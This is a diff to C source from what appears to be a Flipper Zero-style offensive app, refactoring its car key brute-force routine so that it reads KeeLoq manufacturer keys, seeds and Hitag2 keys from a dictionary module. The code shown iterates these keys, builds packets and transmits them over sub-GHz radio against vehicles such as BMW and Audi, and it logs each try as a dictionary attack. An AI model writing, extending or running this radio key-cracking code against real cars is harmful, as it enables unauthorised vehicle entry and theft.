@@ -196,7 +196,7 @@ static bool car_key_bruteforce_ui_input_callback(InputEvent* event, void* contex
                 // Automatically detects protocol from the 178-car database
                 // =====================================================
                 
-                CryptoProtocol protocol = predator_models_get_protocol(app->selected_model_index);
+                CryptoProtocol protocol = app->selected_model_protocol;
                 const char* protocol_name = predator_models_get_protocol_name(protocol);
                 
                 switch(protocol) {
@@ -237,16 +237,16 @@ static bool car_key_bruteforce_ui_input_callback(InputEvent* event, void* contex
                     carkey_state.use_dictionary = true;
                     carkey_state.current_key_index = 0;
                     carkey_state.current_seed_index = 0;
-                    carkey_state.total_codes = KEELOQ_KEY_COUNT * KEELOQ_SEED_COUNT; // Keys × Seeds
+                    carkey_state.total_codes = predator_keys_count(PredatorKeyDictKeeloq) * predator_keys_count(PredatorKeyDictKeeloqSeeds); // Keys × Seeds
                     predator_log_append(app, "🔥 DICTIONARY MODE: 480+ keys × 50+ seeds = 24,000+ combos");
                     FURI_LOG_I("CarKeyBrute", "Dictionary: %d keys × %d seeds = %lu combos", 
-                              KEELOQ_KEY_COUNT, KEELOQ_SEED_COUNT, carkey_state.total_codes);
+                              (int)predator_keys_count(PredatorKeyDictKeeloq), (int)predator_keys_count(PredatorKeyDictKeeloqSeeds), carkey_state.total_codes);
                 } else if(protocol == CryptoProtocolHitag2) {
                     carkey_state.use_dictionary = true;
                     carkey_state.current_key_index = 0;
-                    carkey_state.total_codes = HITAG2_KEY_COUNT;
+                    carkey_state.total_codes = predator_keys_count(PredatorKeyDictHitag2);
                     predator_log_append(app, "🔥 DICTIONARY MODE: 90+ Hitag2 keys loaded");
-                    FURI_LOG_I("CarKeyBrute", "Dictionary attack: %d Hitag2 keys", HITAG2_KEY_COUNT);
+                    FURI_LOG_I("CarKeyBrute", "Dictionary attack: %d Hitag2 keys", (int)predator_keys_count(PredatorKeyDictHitag2));
                 } else {
                     carkey_state.use_dictionary = false;
                 }
@@ -349,9 +349,9 @@ static void car_key_bruteforce_ui_timer_callback(void* context) {
             else if(strstr(app->selected_model_make, "BMW") || 
                strstr(app->selected_model_make, "Audi")) {
                 // Use dictionary if enabled
-                if(carkey_state.use_dictionary && carkey_state.current_key_index < HITAG2_KEY_COUNT) {
+                if(carkey_state.use_dictionary && carkey_state.current_key_index < predator_keys_count(PredatorKeyDictHitag2)) {
                     // Load key from dictionary (48-bit)
-                    memcpy(&carkey_state.hitag2_ctx.key_uid, HITAG2_KEYS[carkey_state.current_key_index], 6);
+                    predator_keys_get(PredatorKeyDictHitag2, carkey_state.current_key_index, &carkey_state.hitag2_ctx.key_uid);
                     
                     uint8_t packet[16];
                     size_t len = 0;
@@ -359,7 +359,7 @@ static void car_key_bruteforce_ui_timer_callback(void* context) {
                         predator_subghz_send_raw_packet(app, packet, len);
                         app->packets_sent++;
                         FURI_LOG_I("CarKeyBruteforce", "[DICT] Hitag2 key %lu/%u TRANSMITTED", 
-                                  (unsigned long)carkey_state.current_key_index + 1, HITAG2_KEY_COUNT);
+                                  (unsigned long)carkey_state.current_key_index + 1, (unsigned)predator_keys_count(PredatorKeyDictHitag2));
                     }
                     
                     // Increment and update counter
@@ -379,13 +379,13 @@ static void car_key_bruteforce_ui_timer_callback(void* context) {
                 }
             } else {
                 // 🔥 KEELOQ: Use dictionary or generate 528-round encrypted packet
-                if(carkey_state.use_dictionary && carkey_state.current_key_index < KEELOQ_KEY_COUNT) {
+                if(carkey_state.use_dictionary && carkey_state.current_key_index < predator_keys_count(PredatorKeyDictKeeloq)) {
                     // Use key from dictionary
-                    carkey_state.keeloq_ctx.manufacturer_key = KEELOQ_KEYS[carkey_state.current_key_index];
+                    carkey_state.keeloq_ctx.manufacturer_key = predator_keys_get_u64(PredatorKeyDictKeeloq, carkey_state.current_key_index);
                     
                     // Try with current seed
-                    if(carkey_state.current_seed_index < KEELOQ_SEED_COUNT) {
-                        carkey_state.keeloq_ctx.counter = KEELOQ_SEEDS[carkey_state.current_seed_index];
+                    if(carkey_state.current_seed_index < predator_keys_count(PredatorKeyDictKeeloqSeeds)) {
+                        carkey_state.keeloq_ctx.counter = predator_keys_get_u32(PredatorKeyDictKeeloqSeeds, carkey_state.current_seed_index);
                     }
                     
                     uint8_t packet[16];
@@ -394,18 +394,18 @@ static void car_key_bruteforce_ui_timer_callback(void* context) {
                         predator_subghz_send_raw_packet(app, packet, len);
                         app->packets_sent++;
                         FURI_LOG_I("CarKeyBruteforce", "[DICT] Keeloq key %lu/%u seed %lu TRANSMITTED", 
-                                  (unsigned long)carkey_state.current_key_index, KEELOQ_KEY_COUNT, 
+                                  (unsigned long)carkey_state.current_key_index, (unsigned)predator_keys_count(PredatorKeyDictKeeloq), 
                                   (unsigned long)carkey_state.current_seed_index);
                     }
                     
                     // Move to next seed, or next key
                     carkey_state.current_seed_index++;
-                    if(carkey_state.current_seed_index >= KEELOQ_SEED_COUNT) {
+                    if(carkey_state.current_seed_index >= predator_keys_count(PredatorKeyDictKeeloqSeeds)) {
                         carkey_state.current_seed_index = 0;
                         carkey_state.current_key_index++;
                     }
                     // Update counter on EVERY iteration (key * seeds + current_seed)
-                    carkey_state.codes_tried = (carkey_state.current_key_index * KEELOQ_SEED_COUNT) + carkey_state.current_seed_index;
+                    carkey_state.codes_tried = (carkey_state.current_key_index * predator_keys_count(PredatorKeyDictKeeloqSeeds)) + carkey_state.current_seed_index;
                 } else {
                     // Normal counter increment
                     carkey_state.keeloq_ctx.counter++;